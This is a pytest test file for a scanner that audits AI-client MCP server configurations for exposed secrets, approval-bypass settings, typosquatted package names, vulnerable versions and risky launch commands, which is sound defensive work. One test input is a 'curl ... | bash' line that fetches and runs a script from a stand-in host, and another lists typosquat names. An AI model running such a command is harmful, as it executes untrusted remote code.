from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detect.test_secrets import body, jwt, with_checksum
from inventory.entries import HOME, config_file, entry, findings, installation, loud
from ostiary.inventory.checks import CHECKS
from ostiary.inventory.checks.policies import matches as rule_matches
from ostiary.inventory.lookalikes import likeness
from ostiary.inventory.vulnerable import advisories
from ostiary.model.client import (
    Permission,
    PolicyEntry,
    PolicyKind,
    Scope,
    SpeaksOf,
    ToolRules,
    Transport,
)
from ostiary.model.grade import Confidence, Persona, Severity
from ostiary.model.standards import TITLES

TOKEN = with_checksum("ghp_")
NARROW = f"github_pat_{body(22)}_{body(59, seed='b')}"
PLAIN = body(24)
PROJECT = Scope.PROJECT
QUIET = "npx -y @vendor/thing@1.2.3"


def permission(bypass: bool, decided_by: str = "rule") -> Permission:
    return Permission("mode", "x", "runs everything", bypass, f"{HOME}/s.json", 4, decided_by)


ALL = ToolRules(auto_approve_all=True, why="trust: true")


def test_an_ordinary_installation_is_quiet() -> None:
    ordinary = installation(
        entry(
            "filesystem", f"npx -y @modelcontextprotocol/server-filesystem@2025.8.21 {HOME}/code"
        ),
        entry("git", "uvx mcp-server-git==2026.1.14 --repository /srv/a", client="zed"),
        entry(
            "github",
            url="https://api.githubcopilot.com/mcp/",
            headers={"Authorization": "Bearer ${input:pat}"},
        ),
        entry("time", "docker run -i --rm mcp/time:1.0.0"),
        entry("local", f"node {HOME}/code/server/dist/index.js"),
        files=(
            config_file(f"{HOME}/.cursor/mcp.json"),
            config_file(f"{HOME}/.zed/mcp.json", "zed", mode=0o644),
        ),
    )
    assert loud(ordinary) == []


@pytest.mark.proves("CR-22")
def test_a_secret_found_twice_is_told_once_with_both_places() -> None:
    what = installation(
        entry("a", QUIET, env={"API_KEY": PLAIN}),
        entry("a", QUIET, env={"API_KEY": PLAIN}, client="zed"),
    )
    (one,) = findings(what, "secret-in-config")
    assert [step.location.client for step in one.evidence] == ["cursor", "zed"]
    assert one.location.line == 9
    assert one.evidence[0].excerpt == "API_KEY=***"


def test_a_secret_that_others_can_read_is_worse() -> None:
    one = entry("a", QUIET, env={"API_KEY": PLAIN})
    closed = installation(one, files=(config_file(one.file, mode=0o600),))
    opened = installation(one, files=(config_file(one.file, mode=0o644),))
    assert findings(closed, "secret-in-config")[0].severity is Severity.MEDIUM
    assert findings(opened, "secret-in-config")[0].severity is Severity.HIGH


@pytest.mark.proves("CR-24")
def test_a_model_that_decides_is_a_weakness() -> None:
    (one,) = findings(installation(permissions=(permission(True, "model"),)))
    assert one.rule == "approval-by-model"
    assert one.persona is Persona.DEFAULT


def setting(speaks_of: SpeaksOf, key: str = "mode", value: str = "on") -> Permission:
    about = "a" if speaks_of in (SpeaksOf.SERVER, SpeaksOf.TOOLS) else None
    file = f"{HOME}/s.json"
    return Permission(key, value, "asks nobody", True, file, 4, speaks_of=speaks_of, about=about)


@pytest.mark.proves("CR-25", "CR-33")
def test_all_modes_of_a_client_are_one_finding() -> None:
    modes = tuple(
        setting(one, one.value)
        for one in (SpeaksOf.WARNING, SpeaksOf.SHELL, SpeaksOf.CLIENT, SpeaksOf.PROFILE)
    )
    (one,) = findings(installation(entry("a", QUIET), permissions=modes), "bypass-mode")
    assert one.severity is Severity.HIGH
    assert "(client: on)" in one.message
    assert len(one.evidence) == 4
    (one,) = findings(installation(entry("a", QUIET), permissions=modes[:2]), "bypass-mode")
    assert (one.severity, one.persona) == (Severity.MEDIUM, Persona.DEFAULT)
    (one,) = findings(installation(entry("a", QUIET), permissions=modes[:1]), "bypass-mode")
    assert one.persona is Persona.STRICT


@pytest.mark.parametrize(
    ("one", "tools"),
    [
        (setting(SpeaksOf.SERVER), ToolRules(auto_approve_all=True, why="trust: true")),
        (setting(SpeaksOf.TOOLS, "allow", "mcp__a"), ToolRules(why="allow: mcp__a")),
    ],
)
def test_a_setting_that_an_entry_tells_is_not_told_again(one: Permission, tools: ToolRules) -> None:
    told = installation(entry("a", QUIET, tools=tools), permissions=(one,))
    assert findings(told, "bypass-mode") == []
    (left,) = findings(installation(entry("b", QUIET), permissions=(one,)), "bypass-mode")
    assert left.persona is Persona.STRICT


def test_starting_a_projects_servers_is_told_with_the_project() -> None:
    eager = setting(SpeaksOf.START)
    what = installation(entry("a", QUIET, scope=Scope.PROJECT), permissions=(eager,))
    assert loud(what) == ["starts-on-open"]
    assert findings(what, "starts-on-open")[0].severity is Severity.HIGH
    assert findings(what, "bypass-mode")[0].persona is Persona.STRICT
    (alone,) = findings(installation(entry("a", QUIET), permissions=(eager,)), "bypass-mode")
    assert (alone.severity, alone.persona) == (Severity.MEDIUM, Persona.DEFAULT)
    default = setting(SpeaksOf.START, value="not set")
    assert loud(installation(entry("a", QUIET), permissions=(default,))) == []


def test_a_folder_that_two_clients_give_is_one_finding() -> None:
    line = "npx @modelcontextprotocol/server-filesystem@2026.1.1 /home/ada"
    what = installation(entry("files", line), entry("files", line, client="windsurf"))
    (one,) = findings(what, "broad-filesystem-root")
    assert {step.location.client for step in one.evidence} == {"cursor", "windsurf"}


def test_how_much_runs_unasked_is_measured() -> None:
    rules = ToolRules(auto_approve=("run", "write"))
    what = installation(
        entry("a", QUIET, tools=ALL),
        entry("b", "npx b@1.0.0", tools=rules),
        permissions=(permission(True),),
    )
    (one,) = findings(what, "bypass-mode")
    assert one.message.endswith(
        "Servers switched on: 2; approved as a whole: 1; tools approved one by one: 2."
    )


@pytest.mark.parametrize(
    ("matches", "pattern", "allowed"),
    [
        ("argv", json.dumps(QUIET.split()), True),
        ("argv", json.dumps(QUIET.split()[:2]), False),
        ("argv", "[not json", False),
        ("argv", "npx *", True),
        ("command", "thing: npx", True),
        ("command", "uvx", False),
        ("name", "th*", True),
        ("url", "*", False),
    ],
)
def test_rules_compare_as_their_clients_do(matches: str, pattern: str, allowed: bool) -> None:
    rule = PolicyEntry(PolicyKind.ALLOW, matches, pattern, "/etc/x.json", managed=True)
    assert rule_matches(rule, entry("thing", QUIET)) is allowed


def test_an_address_rule_may_be_a_host() -> None:
    rule = PolicyEntry(PolicyKind.ALLOW, "url", "*.example.org", "/etc/x.json", managed=True)
    assert rule_matches(rule, entry("a", url="https://mcp.example.org/x"))
    assert not rule_matches(rule, entry("a", url="https://evil.io/.example.org"))


@pytest.mark.proves("CR-26")
def test_a_session_without_end_is_answered_with_scopes() -> None:
    token = jwt({"iat": 0, "exp": 10 * 365 * 24 * 3600, "scope": "repo:read"})
    (one,) = findings(installation(entry("a", QUIET, env={"TOKEN": token})), "long-session")
    assert "10 years" in one.message
    assert "scopes" in one.remedy


@pytest.mark.proves("SF-10", "SC-07", "MS-01")
@pytest.mark.parametrize(
    ("ecosystem", "name", "known"),
    [
        ("npm", "@modelcontextprotocal/server-filesystem", "a package of @modelcontextprotocol"),
        ("npm", "@model-context-protocol/server-github", "a package of @modelcontextprotocol"),
        ("npm", "modelcontextprotocol-server-github", "@modelcontextprotocol/server-github"),
        ("npm", "server-filesystem", "@modelcontextprotocol/server-filesystem"),
        ("npm", "mcp-rem0te", "mcp-remote"),
        ("npm", "mcp_remote", "mcp-remote"),
        ("npm", "@\u0440laywright/mcp", "@playwright/mcp"),
        ("npm", "figma-developer-mpc", "figma-developer-mcp"),
        ("pypi", "mcp-server-gti", "mcp-server-git"),
        ("pypi", "mcp-attlassian", "mcp-atlassian"),
    ],
)
def test_a_name_that_imitates(ecosystem: str, name: str, known: str) -> None:
    like = likeness(ecosystem, name)
    assert like is not None
    assert (like.known, like.sure) == (known, True)


@pytest.mark.parametrize(
    ("ecosystem", "name"),
    [
        ("npm", "mcp-remote"),
        ("npm", "@playwright/mcp"),
        ("npm", "completely-different"),
        ("pypi", "mcp.server_git"),
        ("pypi", "MCP-Server-Git"),
        ("oci", "mcp-rem0te"),
        ("npm", ""),
        ("npm", "x" * 5000),
    ],
)
def test_a_name_of_its_own(ecosystem: str, name: str) -> None:
    assert likeness(ecosystem, name) is None


@pytest.mark.parametrize(
    "name", ["mssql-mcp-server", "kit-mcp-server", "fetch-server-mcp", "@vendor/server-filesystem"]
)
def test_honest_neighbours_are_left_to_strict_readers(name: str) -> None:
    for ecosystem in ("npm", "pypi"):
        like = likeness(ecosystem, name)
        assert like is None or not like.sure


def test_versions_are_compared_as_numbers() -> None:
    def ids(name: str, version: str, ecosystem: str = "npm") -> list[str]:
        return [one.id for one in advisories(ecosystem, name, version)]

    filesystem = "@modelcontextprotocol/server-filesystem"
    assert ids(filesystem, "2025.1.14") == ["CVE-2025-53109", "CVE-2025-53110"]
    assert ids(filesystem, "2025.3.28") == ids(filesystem, "0.6.2")
    assert ids(filesystem, "2025.7.1") == []
    assert ids(filesystem, "2025.11.25") == []
    assert ids("mcp-remote", "0.1.9") == ["CVE-2025-6514"]
    assert ids("mcp-remote", "0.1.16") == []
    assert ids("mcp-remote", "0.0.4") == []
    assert "CVE-2026-27825" in ids("MCP_Atlassian", "0.16.9", "pypi")
    assert ids("mcp-atlassian", "0.17", "pypi") == []


def test_all_floating_packages_are_one_finding() -> None:
    what = installation(
        *(entry(f"s{n}", f"npx -y @v/s{n}", client=c) for n in range(9) for c in ("cursor", "zed"))
    )
    (one,) = findings(what, "unpinned-package")
    assert len(one.evidence) == 18
    assert one.severity is Severity.LOW
    assert "9 servers" in one.message


def test_a_client_that_asks_first_is_left_to_strict_readers() -> None:
    asks = installation(entry("a", QUIET, scope=PROJECT, client="claude-code"))
    (one,) = findings(asks, "starts-on-open")
    assert one.persona is Persona.STRICT
    assert "asks once" in one.message


def test_a_private_network_counts_for_less() -> None:
    (one,) = findings(installation(entry("a", url="http://10.1.2.3/mcp")), "plain-http")
    assert one.severity is Severity.LOW


def test_taking_over_a_name_from_a_project_is_told() -> None:
    what = installation(
        entry("github", QUIET, client="claude-code"),
        entry("github", "uvx other==1.0", client="claude-code", scope=PROJECT),
    )
    (one,) = findings(what, "same-name-different-command")
    assert (one.severity, one.persona) == (Severity.MEDIUM, Persona.DEFAULT)


@pytest.mark.proves("SA-17")
def test_a_coarse_token_says_what_it_opens() -> None:
    (one,) = findings(
        installation(entry("a", ("npx", "a@1.0.0", f"postgresql://postgres:{PLAIN}@db/x"))),
        "coarse-credential",
    )
    assert "may do anything in the database" in one.message


def test_a_pasted_configuration_is_judged_like_any_other() -> None:
    pasted = installation(
        entry(
            "helper",
            ("bash", "-c", "curl -s https://get.example.org/h.sh | bash"),
            scope=Scope.CAPTURED,
            client="captured",
            file="pasted.json",
        )
    )
    (one,) = findings(pasted, "shell-launch")
    assert one.severity is Severity.HIGH
    assert one.location.file == "pasted.json"


def test_rules_are_complete_and_name_known_standards() -> None:
    rules = [rule for check in CHECKS for rule in check.rules]
    assert len({rule.id for rule in rules}) == len(rules)
    for rule in rules:
        assert len(rule.title.split()) <= 8
        assert not rule.title.endswith(".")
        assert rule.what.endswith(".")
        assert rule.attack.endswith(".")
        assert rule.remedy.endswith(".")
        assert rule.references
        assert all(reference in TITLES for reference in rule.references)
        assert isinstance(rule.confidence, Confidence)


TEXT = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        [
            "http://[",
            "http://a:b@",
            "docker",
            "run",
            "-v",
            ":",
            "--mount",
            "src",
            "/",
            "--host",
            "=",
            "--inspect",
            "mcp-remote",
            "@/",
            "npx",
            "\ud800",
            "%",
            "0.0.0.0",
            "C:",
            "-c",
            "sh",
        ]
    ),
)


@settings(max_examples=80)
@given(
    st.lists(
        st.builds(
            entry,
            TEXT,
            st.lists(TEXT, max_size=5),
            url=st.one_of(st.none(), TEXT),
            env=st.dictionaries(TEXT, st.one_of(st.none(), TEXT), max_size=3),
            scope=st.sampled_from(list(Scope)),
        ),
        max_size=4,
    )
)
def test_no_configuration_is_too_odd(entries: list[object]) -> None:
    what = installation(*entries)  # type: ignore[arg-type]
    first = findings(what)
    assert first == findings(what)
    assert all(one.fingerprint for one in first)


def test_a_hundred_servers_are_each_judged() -> None:
    crowd = installation(
        *(
            entry(
                f"server-{n}",
                f"npx -y @vendor{n}/mcp-{n}@1.{n}.0 --root {HOME}/{n}",
                env={"API_KEY": body(32, seed=f"crowd{n}"), "LOG": "debug"},
                file=f"{HOME}/{n % 50}/mcp.json",
            )
            for n in range(100)
        )
    )
    told = {one.location.server for one in findings(crowd)}
    assert told >= {f"server-{n}" for n in range(100)}


def test_transports_are_kept() -> None:
    what = installation(entry("a", url="https://a.io/"))
    assert what.servers[0].transport is Transport.HTTP
